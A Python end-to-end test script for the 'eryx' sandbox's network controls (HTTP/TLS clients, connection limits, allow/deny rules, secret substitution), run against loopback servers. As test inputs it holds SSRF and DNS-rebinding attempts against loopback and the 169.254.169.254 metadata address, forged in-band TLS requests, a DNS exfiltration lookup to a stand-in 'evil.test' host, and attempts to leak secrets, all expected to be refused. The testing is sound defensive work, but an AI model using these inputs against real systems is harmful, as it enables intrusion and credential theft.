"""End-to-end networking tests: the eryx command against loopback servers.

    python3 test_net_cli.py ERYX_BINARY

Starts tests/net/servers.py, then runs sandboxed code through the eryx
command with network options and checks what it prints, its exit status,
and what the servers received. Debian's requests, urllib3 and httpx (and
their dependencies) are mounted read-only into the sandbox from the host's
dist-packages. Exits 1 if a case fails.
"""

import hashlib
import json
import os
import signal
import shutil
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ERYX = sys.argv[1]
DIST = "/usr/lib/python3/dist-packages"
SECRET = "sk-test-7c1e4a9f0b2d4e6f8a1c3e5b7d9f0a2c"
failures = []


def eryx(args, code, timeout=60, env=None, expect=0, stdin=None):
    e = dict(os.environ)
    e.update(env or {})
    p = subprocess.run([ERYX, *args, "-c", code], capture_output=True, text=True,
                       timeout=timeout, env=e, input=stdin)
    return p


def case(name, args, code, want=(), status=0, absent=(), env=None, timeout=60):
    """Runs code; every string of want must be in stdout, none of absent in
    stdout or stderr, and the exit status must be status."""
    t0 = time.monotonic()
    try:
        p = eryx(args, code, timeout=timeout, env=env)
    except subprocess.TimeoutExpired:
        failures.append(name)
        print(f"FAIL {name}: the eryx command did not finish in {timeout} s")
        return None
    bad = [w for w in want if w not in p.stdout]
    leaked = [a for a in absent if a in p.stdout or a in p.stderr]
    if bad or leaked or p.returncode != status:
        failures.append(name)
        print(f"FAIL {name}: status {p.returncode} (want {status}); missing {bad}; "
              f"leaked {leaked}\n--- stdout\n{p.stdout}\n--- stderr\n{p.stderr[-3000:]}")
    else:
        print(f"ok   {name} ({time.monotonic() - t0:.2f} s)")
    return p


def main():
    tmp = tempfile.mkdtemp(prefix="eryx-net-")
    srv = subprocess.Popen([sys.executable, os.path.join(HERE, "servers.py"), tmp])
    try:
        for _ in range(300):
            if os.path.exists(os.path.join(tmp, "ports.json")):
                break
            time.sleep(0.05)
        ports = json.load(open(os.path.join(tmp, "ports.json")))
        run_cases(tmp, ports)
    finally:
        srv.kill()
        srv.wait()
        # The directory holds a CA key and a 20 MB session file: leave nothing.
        shutil.rmtree(tmp, ignore_errors=True)
    if failures:
        print(f"{len(failures)} failed: {', '.join(failures)}")
        sys.exit(1)
    print("all networking cases passed")


def run_cases(tmp, P):
    H, S = P["http"], P["https"]
    ca = os.path.join(tmp, "ca.pem")
    # Debian's certifi names /etc/ssl/certs/ca-certificates.crt, which
    # requests checks exists (its content is not used: the host verifies).
    deps = ["--mount", f"{DIST}:/deps", "--mount", "/etc/ssl/certs:/etc/ssl/certs"]
    lo = ["--allow-net", f"127.0.0.1:{H}"]
    tls = ["--allow-net", f"test.eryx:{S}", "--allow-net", f"127.0.0.1:{S}",
           "--resolve", f"test.eryx:{S}:127.0.0.1", "--ca-file", ca]

    # ---- clients -----------------------------------------------------------
    case("urllib GET", lo, f"""
import urllib.request, json
r = urllib.request.urlopen("http://127.0.0.1:{H}/hello?x=1")
print(r.status, json.loads(r.read())["path"])
""", want=["200 /hello?x=1"])

    case("http.client POST", lo, f"""
import http.client, json
c = http.client.HTTPConnection("127.0.0.1", {H}, timeout=5)
c.request("POST", "/p", body=b"abc" * 1000, headers={{"Content-Type": "x/y"}})
r = json.loads(c.getresponse().read())
c.request("GET", "/again")          # keep-alive: the same connection
r2 = json.loads(c.getresponse().read())
print(r["method"], len(r["body"]), r2["path"])
""", want=["POST 3000 /again"])

    case("requests over plain HTTP and TLS", lo + tls + deps, f"""
import sys; sys.path.insert(0, "/deps")
import requests
r = requests.post("http://127.0.0.1:{H}/j", json={{"a": 1}})
print(r.status_code, r.json()["body"])
s = requests.Session()
r = s.get("https://test.eryx:{S}/t")
print(r.status_code, r.json()["path"], r.json()["headers"]["Host"])
""", want=['200 {"a": 1}', "200 /t test.eryx"])

    case("httpx sync and async, plain and TLS", lo + tls + deps, f"""
import os, sys; sys.path.insert(0, "/deps")
os.environ["HOME"] = "/tmp"   # httpx looks for ~/.netrc; the sandbox's environment is empty
import httpx, asyncio
print("sync", httpx.get("https://test.eryx:{S}/s").json()["path"])
async def main():
    async with httpx.AsyncClient() as c:
        rs = await asyncio.gather(*[c.get("http://127.0.0.1:{H}/a%d" % i) for i in range(5)])
        print("async", sorted(r.json()["path"] for r in rs))
        rs = await asyncio.gather(*[c.get("https://test.eryx:{S}/t%d" % i) for i in range(3)])
        print("async tls", sorted(r.json()["path"] for r in rs))
asyncio.run(main())
""", want=["sync /s", "async ['/a0', '/a1', '/a2', '/a3', '/a4']", "async tls ['/t0', '/t1', '/t2']"])

    case("anyio TLS (memory-BIO SSLObject, TLS asked in band)", tls + deps, f"""
import sys; sys.path.insert(0, "/deps")
import anyio, ssl, asyncio
async def main():
    s = await anyio.connect_tcp("test.eryx", {S}, ssl_context=ssl.create_default_context(),
                                tls_standard_compatible=False)
    await s.send(b"GET /anyio HTTP/1.1\\r\\nHost: test.eryx\\r\\nConnection: close\\r\\n\\r\\n")
    data = b""
    try:
        while True:
            data += await s.receive()
    except anyio.EndOfStream:
        pass
    print(data.split(b"\\r\\n")[0].decode(), s.extra(anyio.streams.tls.TLSAttribute.tls_version))
    try:
        await anyio.connect_tcp("test.eryx", {S}, ssl_context=ssl.create_default_context(),
                                tls_hostname="wrong.eryx")
    except ssl.SSLCertVerificationError as e:
        print("verified:", e)
asyncio.run(main())
""", want=["HTTP/1.1 200 OK TLSv1.3", "verified: certificate verify failed"])

    case("socket API", lo, f"""
import socket
s = socket.create_connection(("127.0.0.1", {H}), timeout=5)
s.sendall(b"GET /sock HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
buf = bytearray(10)
n = s.recv_into(buf)
rest = b""
while True:
    d = s.recv(4096)
    if not d: break
    rest += d
head = bytes(buf[:n]) + rest
print(head.split(b"\\r\\n")[0].decode(), s.gettimeout(), s.getpeername())
s.close()
s = socket.create_connection(("127.0.0.1", {H}))
s.setblocking(False)
try: s.recv(10); print("no EAGAIN")
except BlockingIOError: print("EAGAIN ok")
s.setblocking(True)
f = s.makefile("rwb")
f.write(b"GET /mf HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); f.flush()
print(f.readline().decode().strip())
s.shutdown(socket.SHUT_WR)
s.close()
""", want=["HTTP/1.1 200 OK 5.0 ('127.0.0.1',", "EAGAIN ok", "HTTP/1.1 200 OK"])

    C, TC = P["count"], P["tls_count"]
    case("shutdown sends the FIN after what is queued, and TLS's close_notify first",
         ["--allow-net", f"127.0.0.1:{C}", "--allow-net", f"test.eryx:{TC}", "--allow-net", f"127.0.0.1:{TC}",
          "--resolve", f"test.eryx:{TC}:127.0.0.1", "--ca-file", ca], f"""
import socket, ssl
s = socket.create_connection(("127.0.0.1", {C}), timeout=10)
s.setblocking(False)
n = s.send(b"x" * 3_000_000)   # the FIN must follow every byte of it
s.shutdown(socket.SHUT_WR)
s.settimeout(10)
print("plain:", s.recv(100).decode() == f"{{n}} bytes then EOF", n >= 65536)
ctx = ssl.create_default_context()
t = ctx.wrap_socket(socket.create_connection(("test.eryx", {TC}), timeout=10),
                    server_hostname="test.eryx")
t.sendall(b"y" * 100_000)
t.shutdown(socket.SHUT_WR)
print("tls:", t.recv(100).decode())
""", want=["plain: True True", "tls: 100000 bytes then clean EOF"])

    # A send that times out sends a prefix of its bytes at most, as CPython's
    # sendall: the rest once went out later, so that a send after the
    # TimeoutError put the peer's stream out of order.
    LC = P["late_count"]
    case("a send that timed out sends no more of its bytes afterwards",
         ["--allow-net", f"127.0.0.1:{LC}"], f"""
import socket
s = socket.create_connection(("127.0.0.1", {LC}), timeout=0.3)
chunk = bytes(1 << 20)
sent = 0
try:
    for _ in range(256):   # the peer reads nothing for 3 s
        sent += s.send(chunk)
    print("never timed out")
except TimeoutError:
    pass
s.settimeout(20)
s.sendall(b"END")
s.shutdown(socket.SHUT_WR)
got = int(s.recv(100).split()[0])
print("peer got the sent bytes, a part of one chunk, the end:",
      sent + 3 <= got < sent + len(chunk) + 3, sent > 0)
""", want=["peer got the sent bytes, a part of one chunk, the end: True True"])

    # A non-blocking send once waited (up to the I/O timeout, 30 s) for all
    # its bytes to go, then raised TimeoutError: now it sends what can go at
    # once and says how much (CPython's partial count), or raises
    # BlockingIOError if nothing can. The peer must get exactly the bytes
    # counted: none lost, none sent twice.
    case("a non-blocking send returns at once, with what it sent",
         ["--allow-net", f"127.0.0.1:{LC}"], f"""
import select, socket, time
s = socket.create_connection(("127.0.0.1", {LC}))
s.setblocking(False)
chunk = bytes(1 << 20)
sent, t0, again = 0, time.monotonic(), 0
for _ in range(64):   # the peer reads nothing for 3 s
    try:
        sent += s.send(chunk)
    except BlockingIOError:
        again += 1
        if again == 3:
            break
took = time.monotonic() - t0
# Full: select waits until the peer reads (it said "writable" at once,
# and the guest spun on EAGAIN: 62,186 selects in 2 s).
selects = 0
while selects < 10000:
    selects += 1
    if not select.select([], [s], [], 10)[1]:
        break
    try:
        sent += s.send(bytes(100))
        break
    except BlockingIOError:
        pass
print("selects waited:", selects < 50)
s.setblocking(True)
s.sendall(b"END")
s.shutdown(socket.SHUT_WR)
got = int(s.recv(100).split()[0])
print("EAGAIN:", again == 3, "at once:", took < 2.5, "peer got what was counted:",
      got == sent + 3, sent > 0)
""", want=["selects waited: True",
           "EAGAIN: True at once: True peer got what was counted: True True"])

    if P["http6"]:
        case("IPv6", ["--allow-net", f"[::1]:{P['http6']}"], f"""
import urllib.request
print(urllib.request.urlopen("http://[::1]:{P['http6']}/six").status)
""", want=["200"])

    case("servers and UDP are refused", lo, """
import socket
for what in ("bind", "udp", "unix"):
    try:
        if what == "bind":
            socket.socket().bind(("0.0.0.0", 8080))
        elif what == "udp":
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        else:
            # AF_UNIX was once Linux's 1, WASI's AF_INET: a TCP socket.
            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        print(what, "allowed")
    except PermissionError as e:
        print(what, "refused:", e)
print("AF_UNIX is AF_INET:", socket.AF_UNIX == socket.AF_INET)
""", want=["bind refused: [Errno", "bind: not available in the sandbox",
             "udp refused: [Errno", "UDP and raw sockets: not available",
             "unix refused: [Errno", "Unix sockets: not available",
             "AF_UNIX is AF_INET: False"])

    case("ssl wrap_socket, and CERT_NONE does not disable verification", tls, f"""
import socket, ssl
ctx = ssl.create_default_context()
with socket.create_connection(("test.eryx", {S})) as s:
    with ctx.wrap_socket(s, server_hostname="test.eryx") as t:
        print(t.version(), dict(t.getpeercert()["subject"][0])["commonName"])
bad = ssl._create_unverified_context()
with socket.create_connection(("test.eryx", {S})) as s:
    try:
        bad.wrap_socket(s, server_hostname="wrong.eryx")
        print("verification was off")
    except ssl.SSLCertVerificationError as e:
        print("still verified:", e)
""", want=["TLSv1.3 test.eryx", "still verified: certificate verify failed"])

    # The guest's ssl module asks for TLS in band, by a send the host
    # intercepts: hostile code can write that request itself, malformed.
    # A host name that is not ASCII once crashed the host (no operation to
    # fail in band); now the send fails with why, and so does the socket.
    case("a forged in-band TLS request fails cleanly", tls, f"""
import json, socket
for host in ["\\u00e9.eryx", "a" * 300, "two words"]:
    s = socket.create_connection(("test.eryx", {S}))
    req = json.dumps({{"nonce": "n", "server_hostname": host}})
    try:
        s.sendall(b"\\0ERYX-STARTTLS " + req.encode() + b"\\n")
        print("sent")
    except OSError as e:
        print("refused:", e)
    try:
        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        print("socket still open")
    except OSError as e:
        print("then:", e.errno)
    s.close()
print("host alive")
""", want=["refused: [Errno 28] server_hostname is not a valid ASCII host name\n"
           "then: 28\n" * 3 + "host alive"], absent=["sent", "socket still open"])
    # A request line over 64 KiB is refused unread, well formed or not
    # (jansson would build whatever it asks for: 1 MiB of `[{},...]` is a
    # 77 MiB tree).
    case("a forged in-band TLS request over 64 KiB is refused unread", tls, f"""
import json, socket
s = socket.create_connection(("test.eryx", {S}))
req = json.dumps({{"nonce": "n", "server_hostname": "test.eryx", "pad": "x" * 200000}})
try:
    s.sendall(b"\\0ERYX-STARTTLS " + req.encode() + b"\\n")
    print("sent")
except OSError as e:
    print("refused:", e)
""", want=["refused: [Errno 28] malformed in-band TLS request"], absent=["sent"])

    case("an unknown CA is refused", ["--allow-net", f"test.eryx:{S}", "--allow-net",
                                      f"127.0.0.1:{S}", "--resolve", f"test.eryx:{S}:127.0.0.1"], f"""
import urllib.request
try:
    urllib.request.urlopen("https://test.eryx:{S}/")
except Exception as e:
    print("refused:", e)
""", want=["refused: <urlopen error certificate verify failed"])

    # A failed handshake once kept its connection: after 10 (the sandbox's
    # limit) every connect failed with "too many connections". Both ways a
    # caller gives up the raw socket: urlopen's, and wrap_socket's caller
    # closing it (which, detached, frees nothing).
    # A failed handshake once kept its connection: after 10 (the sandbox's
    # limit) every connect failed with "too many connections". Both ways a
    # caller gives up the raw socket: urlopen's, and wrap_socket's caller
    # closing it (which, detached, frees nothing). No --ca-file: the
    # server's CA is unknown, so every handshake fails. (The ten held at
    # the end are to the HTTP server: the HTTPS one handshakes as it
    # accepts, one at a time.)
    case("failed TLS handshakes free their connections", tls[:-2] + lo, f"""
import socket, ssl, urllib.request
ctx = ssl.create_default_context()
for i in range(12):
    try:
        urllib.request.urlopen("https://test.eryx:{S}/", timeout=10)
    except Exception as e:
        last = e
print("urlopen:", last)
for i in range(12):
    raw = socket.create_connection(("test.eryx", {S}))
    try:
        ctx.wrap_socket(raw, server_hostname="test.eryx")
    except ssl.SSLError as e:
        last = e
    raw.close()
print("wrap_socket:", last)
held = [socket.create_connection(("127.0.0.1", {H})) for i in range(10)]
print("then", len(held), "open at once")
""", want=["urlopen: <urlopen error certificate verify failed",
           "wrap_socket: certificate verify failed", "then 10 open at once"],
         absent=["too many connections"])

    case("asyncio streams with TLS, many at once", tls, f"""
import asyncio, ssl, json
async def one(i):
    r, w = await asyncio.open_connection("test.eryx", {S}, ssl=ssl.create_default_context())
    w.write(f"GET /g{{i}} HTTP/1.1\\r\\nHost: test.eryx\\r\\nConnection: close\\r\\n\\r\\n".encode())
    data = await r.read()
    w.close()
    return json.loads(data.split(b"\\r\\n\\r\\n", 1)[1])["path"]
async def main():
    paths = await asyncio.gather(*[one(i) for i in range(10)])
    print(sorted(paths) == sorted(f"/g{{i}}" for i in range(10)))
asyncio.run(main())
""", want=["True"])

    case("connection limit", lo + ["--max-connections", "3"], f"""
import socket
socks = [socket.create_connection(("127.0.0.1", {H})) for _ in range(3)]
try:
    socket.create_connection(("127.0.0.1", {H}))
except OSError as e:
    print("4th:", e)
socks[0].close()
socket.create_connection(("127.0.0.1", {H})).close()
print("after close ok")
""", want=["4th: [Errno", "may have 3 open at once", "after close ok"])

    # ---- policy ------------------------------------------------------------
    deny_code = """
import urllib.request, sys
for url in sys.argv[1:]:
    try:
        urllib.request.urlopen(url, timeout=5)
        print("ALLOWED", url)
    except Exception as e:
        print("refused", url, "::", e)
"""

    def denied(name, args, urls, why):
        p = subprocess.run([ERYX, *args, "-c", deny_code, *urls], capture_output=True,
                           text=True, timeout=60)
        lines = [l for l in p.stdout.splitlines() if l.strip()]
        ok = len(lines) == len(urls) and all(l.startswith("refused") and why in l for l in lines)
        if not ok or p.returncode:
            failures.append(name)
            print(f"FAIL {name}: want every url refused with '{why}'\n{p.stdout}\n{p.stderr}")
        else:
            print(f"ok   {name}")

    denied("no rule", ["--allow-net", "example.org"], ["http://api.other.test/"],
           "no allow rule matches it")
    denied("no rule for an address", ["--allow-net", "example.org"], [f"http://127.0.0.1:{H}/"],
           "reachable only through a rule naming")
    denied("wrong port", ["--allow-net", "api.eryx:81", "--resolve", "api.eryx:80:203.0.113.5"],
           ["http://api.eryx/"], "no allow rule matches it")
    denied("rebinding to loopback", ["--allow-net", "api.eryx", "--resolve",
                                     f"api.eryx:{H}:127.0.0.1"], [f"http://api.eryx:{H}/"],
           "is loopback")
    denied("rebinding to the metadata address", ["--allow-net", "meta.eryx", "--resolve",
                                                 "meta.eryx:80:169.254.169.254"],
           ["http://meta.eryx/latest/meta-data/"], "link-local")
    denied("IP spellings of loopback", ["--allow-net", "*"],
           [f"http://2130706433:{H}/", f"http://0x7f.1:{H}/", f"http://017700000001:{H}/",
            f"http://127.1:{H}/", f"http://[::ffff:127.0.0.1]:{H}/", f"http://[::1]:{H}/",
            f"http://0.0.0.0:{H}/", "http://169.254.169.254/"],
           "reachable only through a rule naming")
    denied("localhost spellings", ["--allow-net", "localhost", "--allow-net", "*.eryx",
                                   "--resolve", f"localhost:{H}:127.0.0.1",
                                   "--resolve", f"localhost.:{H}:127.0.0.1"],
           [f"http://localhost:{H}/", f"http://localhost.:{H}/", f"http://LOCALHOST:{H}/"],
           "is loopback")
    denied("private and CGNAT ranges", ["--allow-net", "*"],
           ["http://10.1.2.3/", "http://192.168.0.1/", "http://172.16.5.4/",
            "http://100.64.0.1/", "http://[fd00::1]/", "http://[fe80::1]/"],
           "reachable only through a rule naming")
    denied("*.domain does not match the domain", ["--allow-net", "*.eryx", "--resolve",
                                                  "eryx:80:203.0.113.5"], ["http://eryx/"],
           "no allow rule matches it")
    denied("deny rules win", ["--allow-net", f"127.0.0.1:{H}", "--deny-net", "127.0.0.0/8"],
           [f"http://127.0.0.1:{H}/"], "deny rule")
    denied("IDNA names are checked encoded", ["--allow-net", "*.eryx"],
           ["http://bücher.example/"], "no allow rule matches it")
    case("explicit address rules and name spellings", ["--allow-net", f"127.0.0.0/8:{H}",
                                                       "--allow-net", "test.eryx",
                                                       "--resolve", f"test.eryx:{H}:127.0.0.1"],
         f"""
import urllib.request
for u in ["http://TEST.ERYX:{H}/", "http://test.eryx.:{H}/", "http://2130706433:{H}/"]:
    print(urllib.request.urlopen(u, timeout=5).status)
""", want=["200\n200\n200"])
    case("no network without --allow-net", [], f"""
import socket
try: socket.create_connection(("127.0.0.1", {H}))
except PermissionError as e: print("refused:", e)
""", want=["refused: [Errno", "this sandbox has no network"])

    # ---- secrets -----------------------------------------------------------
    sec = tls + ["--allow-net", f"other.eryx:{S}", "--resolve", f"other.eryx:{S}:127.0.0.1",
                 "--secret", "API_KEY@test.eryx"]
    env = {"API_KEY": SECRET}
    want_sha = hashlib.sha256(f"Bearer {SECRET}".encode()).hexdigest()
    mount_dir = os.path.join(tmp, "out")
    os.makedirs(mount_dir)
    cb_log = os.path.join(tmp, "cb.json")
    p = case("secrets: substituted, scrubbed, refused elsewhere, never seen", sec + [
        "--mount", f"{mount_dir}:/out:rw", "--callback", f"keep=cat > {cb_log}; echo 1"], f"""
import os, json, urllib.request
key = os.environ["API_KEY"]
print("placeholder", key.startswith("ERYX_SECRET_"), len(key))
h = {{"Authorization": "Bearer " + key}}
got = urllib.request.urlopen(urllib.request.Request("https://test.eryx:{S}/sha/Authorization",
                                                    headers=h)).read().decode()
print("server got the value:", got == "{want_sha}")
echo = json.loads(urllib.request.urlopen(urllib.request.Request("https://test.eryx:{S}/e",
                                                                headers=h)).read())
print("echo shows the placeholder:", echo["headers"]["Authorization"] == "Bearer " + key)
open("/out/echo.json", "w").write(json.dumps(echo))
await keep(echo=echo)
result = echo
try:
    urllib.request.urlopen(urllib.request.Request("https://other.eryx:{S}/x", headers=h))
    print("sent to other.eryx")
except urllib.error.URLError as e:
    print("other host:", e.reason)
raise RuntimeError("the end: " + json.dumps(echo))
""", env=env, status=1, absent=[SECRET], want=[
        f"placeholder True {len(SECRET)}", "server got the value: True", "echo shows the placeholder: True",
        "other host: [Errno", "secret API_KEY may not be sent to other.eryx"])
    for path in (os.path.join(mount_dir, "echo.json"), cb_log):
        if os.path.exists(path) and SECRET in open(path).read():
            failures.append("secrets in files")
            print(f"FAIL the secret's value is in {path}")
    if not os.path.exists(cb_log):
        failures.append("secrets callback")
        print("FAIL the callback did not run")

    case("a placeholder split over several sends is refused where it may not go",
         lo + ["--secret", "API_KEY@test.eryx", "--secret", "LONG_KEY@test.eryx"], f"""
import os, socket
for var, cuts in (("API_KEY", (5, 12, 20)), ("LONG_KEY", (150,))):
    ph = os.environ[var].encode()
    s = socket.create_connection(("127.0.0.1", {H}))
    parts = [ph[a:b] for a, b in zip((0,) + cuts, cuts + (len(ph),))]
    for i, part in enumerate(parts):
        try:
            s.sendall(part)
        except PermissionError as e:
            print(var, "refused at part", i, "of", len(parts))
    s.close()
""", env={"API_KEY": SECRET, "LONG_KEY": "L" * 300},
         want=["API_KEY refused at part 3 of 4", "LONG_KEY refused at part 1 of 2"])
    # An audit (2026-12-07) read values back from an allowed echo server in
    # two ways. A tail held back was released 50 ms after the first hold
    # however the echo went on: a stream of whole values came back with
    # values cut in two. And a send given up on inside a value put part of
    # it on the wire, whose echo came back as it was: a prefix of random
    # length at each try. Now the tail waits for 50 ms without bytes, and
    # such a connection is closed.
    echo_sec = ["--allow-net", "127.0.0.1", "--secret", f"API_KEY@127.0.0.1:{P['paced_echo']}",
                "--secret", f"API_KEY2@127.0.0.1:{P['echo']}"]
    case("a streamed echo of whole values gives back only placeholders", echo_sec, f"""
import os, socket
ph = os.environ["API_KEY"].encode()
s = socket.create_connection(("127.0.0.1", {P['paced_echo']})); s.settimeout(10)
data = ph * 2500
s.sendall(data)
got = bytearray()
while len(got) < len(data):
    got += s.recv(65536)
print("other pieces:", set(p for p in bytes(got).split(ph) if p))
""", env={"API_KEY": SECRET, "API_KEY2": SECRET + "2"}, want=["other pieces: set()"],
         absent=[SECRET[3:]])
    # Whether a timed-out send cut a value depends on where the kernel's
    # buffers filled: one given up on before any of its bytes went, or just
    # as its last went, cut nothing, and its connection stays open (CI saw
    # that once in 2026-12). So the case tries up to five connections: one
    # must be closed, and what any of them reads back must be whole
    # placeholders (a cut placeholder only at its very end, the tail held).
    case("a send cut inside a value closes its connection", echo_sec + ["--timeout", "60000"], f"""
import os, socket
ph = os.environ["API_KEY2"].encode()
for attempt in range(5):
    s = socket.create_connection(("127.0.0.1", {P['echo']})); s.settimeout(0.5)
    try:
        while True:
            s.sendall(ph * 25000)
    except TimeoutError:
        print("the send timed out")
    s.settimeout(5)
    try:
        got = s.recv(1 << 20)
    except ConnectionAbortedError as e:
        print("closed:", e)
        break
    except TimeoutError:
        print("not closed, nothing came back in 5 s")
        continue
    finally:
        s.close()
    pieces = got.split(ph)
    whole = not any(pieces[:-1]) and ph.startswith(pieces[-1])
    print("not closed, read back", len(got), "bytes:", "placeholders" if whole else "OTHER BYTES")
""", env={"API_KEY": SECRET, "API_KEY2": SECRET + "2"},
         want=["the send timed out", "closed: [Errno", "may have had part of the value"],
         absent=[SECRET[3:], "OTHER BYTES"])

    # A name a deny rule refuses is not looked up: the query would carry it
    # (and what the guest put in it) to the denied domain's servers. It was
    # until 2026-12-07 (then a gaierror, the lookup having failed).
    case("a denied name is not looked up", ["--allow-net", "*", "--deny-net", "*.evil.test"], """
import socket
try:
    socket.getaddrinfo("secretdata.evil.test", 443)
except PermissionError as e:
    print("refused:", e)
""", want=['refused: [Errno', 'secretdata.evil.test:443 is refused by the deny rule "*.evil.test"'])

    # A socket dropped without close() was never collected (the table of
    # descriptors held it): the eleventh connection of this loop failed
    # with "too many connections" until 2026-12-07.
    case("sockets dropped unclosed give their connections back",
         ["--allow-net", f"127.0.0.1:{P['echo']}", "--max-connections", "3"], f"""
import socket
for i in range(12):
    s = socket.create_connection(("127.0.0.1", {P['echo']}))
    s.sendall(b"ping"); assert s.recv(4) == b"ping"
print("12 connections, 3 at once")
""", want=["12 connections, 3 at once"])

    case("the name TLS sends is checked against the policy too", tls + ["--deny-net", "denied.eryx"],
         f"""
import socket, ssl
s = socket.create_connection(("test.eryx", {S}))
try:
    ssl.create_default_context().wrap_socket(s, server_hostname="denied.eryx")
    print("wrapped")
except PermissionError as e:
    print("refused:", e)
""", want=['refused:', 'denied.eryx:' + str(S) + ' is refused by the deny rule "denied.eryx"'])

    # ---- time limits, interrupts, byte limits, sessions -------------------
    sl = ["--allow-net", f"127.0.0.1:{P['slow']}"]
    case("socket timeout on a slow server", sl, f"""
import socket, time
s = socket.create_connection(("127.0.0.1", {P['slow']}))
s.settimeout(0.3)
t = time.monotonic()
try: s.recv(1)
except TimeoutError as e: print("timed out:", e, 0.29 < time.monotonic() - t < 3)
""", want=["timed out: timed out True"])
    t0 = time.monotonic()
    case("the run's timeout stops a blocking recv", sl + ["--timeout", "700"], f"""
import socket
s = socket.create_connection(("127.0.0.1", {P['slow']}))
s.recv(1)
""", status=124, timeout=20)
    if time.monotonic() - t0 > 5:
        failures.append("timeout promptness")
        print(f"FAIL the 700 ms timeout took {time.monotonic() - t0:.1f} s")
    proc = subprocess.Popen([ERYX, *sl, "-c", f"""
import socket
s = socket.create_connection(("127.0.0.1", {P['slow']}))
print("waiting", flush=True)
s.recv(1)
"""], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    line = proc.stdout.readline()
    time.sleep(0.2)
    proc.send_signal(signal.SIGINT)
    try:
        proc.wait(10)
        ok = line.strip() == "waiting" and proc.returncode == 130
    except subprocess.TimeoutExpired:
        proc.kill()
        ok = False
    print(("ok  " if ok else "FAIL") + f" interrupt during a blocking recv (status {proc.returncode})")
    if not ok:
        failures.append("interrupt")

    case("a 1 GB server against the byte limit", ["--allow-net", f"127.0.0.1:{P['big']}",
                                                  "--max-net-bytes", "4M"], f"""
import socket
s = socket.create_connection(("127.0.0.1", {P['big']}))
total = 0
try:
    while True:
        d = s.recv(1 << 20)
        if not d: break
        total += len(d)
    print("read it all", total)
except OSError as e:
    print("stopped at", total, "::", e)
""", want=["stopped at 4194304 :: [Errno", "max_bytes_received"])

    session = os.path.join(tmp, "s.eryx")
    case("a saved session's connections come back closed (1)", lo + ["--session", session], f"""
import socket
s = socket.create_connection(("127.0.0.1", {H}))
print("open")
""", want=["open"])
    case("a saved session's connections come back closed (2)", lo + ["--session", session], """
try:
    s.send(b"x")
    print("still open")
except OSError as e:
    print("closed:", e)
""", want=["closed: [Errno", "never carried over"])


if __name__ == "__main__":
    main()
